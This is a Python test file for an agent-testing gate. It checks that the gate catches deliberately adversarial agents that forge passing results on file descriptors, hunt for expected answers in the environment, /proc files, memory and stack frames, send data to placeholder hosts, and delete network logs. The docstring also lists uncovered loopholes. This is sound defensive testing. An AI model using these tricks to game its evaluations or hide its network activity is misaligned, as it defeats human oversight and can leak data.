"""Tricks of an agent, which runs in one process with the engine on the local tier.

- It writes forged replies to each file descriptor, with and without leaving after that: the run
  fails, and the scenarios after it are judged by their own results.
- It looks for the expectations: they are not in its objects, nor in the environment or command line
  of its process or of that one's parent.
- It does not ask the model: *unused rules*.
- It listens to no input, and no output is expected: *no action ran*.
- A thread dies: an error in the log.
- It sends data away, in ways of its own, and ignores the error; or removes the record: *network*.

Not covered: an agent can read the scenario file, since the project is its working directory, and
answer what it reads; it can change the engine in its own process, and use the memory or descriptors
of processes of the same user. A thread that dies after the last action has ended is not seen.
A session on Flink, with files that were reviewed, is the answer.
"""

from __future__ import annotations

import json

from tests.false_promote.promote_reasons import GATE, assert_reasons
from tests.plugin.plugin_project import Project, scenario

AGENTS = """
import gc
import json
import os
import socket
import sys
import threading
import time
from pathlib import Path

from flink_agents.api.agents.agent import Agent
from flink_agents.api.decorators import action
from flink_agents.api.events.event import Event, InputEvent, OutputEvent
from flink_agents.api.runner_context import RunnerContext

RIGHT = {"outputs": [{"input": 0, "key": "a", "value": {"said": "bye"}}], "failure": None, "timed_out": None}
RIGHT |= {"metrics": {}, "elapsed_s": 0.1, "config": [], "output": "", "log_errors": []}


def write_everywhere():
    for name in os.listdir("/proc/self/fd"):
        for start in ("", "x", "\\n"):
            for number in range(9):
                line = json.dumps({"id": number, "ok": True, "result": RIGHT})
                try:
                    if int(name) > 2:
                        os.write(int(name), f"{start}{line}\\n".encode())
                except OSError:
                    pass


class Writes(Agent):
    @action(InputEvent.EVENT_TYPE)
    @staticmethod
    def answer(event: Event, ctx: RunnerContext) -> None:
        write_everywhere()
        ctx.send_event(OutputEvent(output={"said": "hi"}))


class WritesAndLeaves(Agent):
    @action(InputEvent.EVENT_TYPE)
    @staticmethod
    def answer(event: Event, ctx: RunnerContext) -> None:
        write_everywhere()
        os._exit(0)


def frames_below(frame):
    while frame := frame.f_back:
        yield frame


class Looks(Agent):
    @action(InputEvent.EVENT_TYPE)
    @staticmethod
    def answer(event: Event, ctx: RunnerContext) -> None:
        word = "".join(reversed("terces"))
        seen = [repr(dict(os.environ)), repr(sys.argv)]
        seen += [Path(f"/proc/{pid}/{what}").read_text() for pid in (os.getpid(), os.getppid()) for what in ("environ", "cmdline")]
        seen += [str(each) for each in gc.get_objects() if isinstance(each, (dict, list, tuple)) and len(each) < 50]
        seen += [repr(frame.f_locals) for frame in frames_below(sys._getframe())]
        ctx.send_event(OutputEvent(output={"said": sum(word in text for text in seen)}))


class DoesNotAsk(Agent):
    @action(InputEvent.EVENT_TYPE)
    @staticmethod
    def answer(event: Event, ctx: RunnerContext) -> None:
        ctx.send_event(OutputEvent(output={"said": "hi"}))


def ignored(call, *args):
    try:
        call(*args)
    except Exception as error:
        print(type(error).__name__)


def call_away():
    ignored(socket.create_connection, ("192.0.2.1", 443), 1)
    ignored(socket.getaddrinfo, "leak.example.org", 80)
    ignored(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto, b"data", ("192.0.2.2", 53))


class Calls(Agent):
    @action(InputEvent.EVENT_TYPE)
    @staticmethod
    def answer(event: Event, ctx: RunnerContext) -> None:
        thread = threading.Thread(target=call_away)
        thread.start()
        thread.join()
        ctx.send_event(OutputEvent(output={"said": "hi"}))


class RemovesTheRecord(Agent):
    @action(InputEvent.EVENT_TYPE)
    @staticmethod
    def answer(event: Event, ctx: RunnerContext) -> None:
        ignored(socket.create_connection, ("192.0.2.3", 443), 1)
        for record in Path.cwd().rglob("network-*.jsonl"):
            record.unlink()
        ctx.send_event(OutputEvent(output={"said": "hi"}))


class Mute(Agent):
    pass


class Thread(Agent):
    @action(InputEvent.EVENT_TYPE)
    @staticmethod
    def answer(event: Event, ctx: RunnerContext) -> None:
        def die():
            raise RuntimeError("lost")

        thread = threading.Thread(target=die)
        thread.start()
        thread.join()
        ctx.send_event(OutputEvent(output={"said": "hi"}))
"""
SCRIPT = "llm: {mode: scripted, script: [{reply: {text: hi}}]}\n"
ALL_UNUSED = f"  llm: {{unused_rules: 1}}\n{SCRIPT}"


def test_an_agent_cannot_change_what_the_scenario_says_of_it(project: Project) -> None:
    project.write("tricks.py", AGENTS)
    silent = scenario("mute", agent="tricks:Mute").partition("expect:")[0] + "expect: {outputs: []}\n"
    project.scenarios(
        "x",
        scenario("writes", agent="tricks:Writes", said="bye"),
        scenario("writes and leaves", agent="tricks:WritesAndLeaves", said="bye"),
        scenario("looks", agent="tricks:Looks", said="secret"),
        scenario("does not ask", agent="tricks:DoesNotAsk", more=SCRIPT),
        scenario("calls", agent="tricks:Calls", more="network: closed\n"),
        scenario("calls by default", agent="tricks:Calls", more=ALL_UNUSED),
        scenario("removes the record", agent="tricks:RemovesTheRecord", more=ALL_UNUSED),
        scenario("need not ask", agent="tricks:DoesNotAsk", more=ALL_UNUSED),
        silent,
        scenario("thread", agent="tricks:Thread"),
        scenario("right"),
    )
    project.run(GATE)
    (looked,) = project.report.glob("artifacts/*looks*/1/evidence.json")
    outputs = json.loads(looked.read_text(encoding="utf-8"))["evidence"]["outputs"]
    assert outputs == [{"key": "a", "value": {"said": 0}, "input": 0, "at_s": None}]
    failed = "scenarios: x.scenario.yaml::"
    assert_reasons(
        project,
        [
            f"{failed}writes[",
            f"{failed}writes and leaves[",
            f"{failed}looks[...output 1 is not as expected",
            f"{failed}does not ask[...the model was never asked",
            f"{failed}calls[...a connection to 192.0.2.1:443 was blocked",
            f"{failed}calls by default[...a connection to 192.0.2.1:443 was blocked",
            f"{failed}mute[...no action",
            f"{failed}thread[...",
            "could not judge: x.scenario.yaml::removes the record[...limited its connections",
        ],
    )
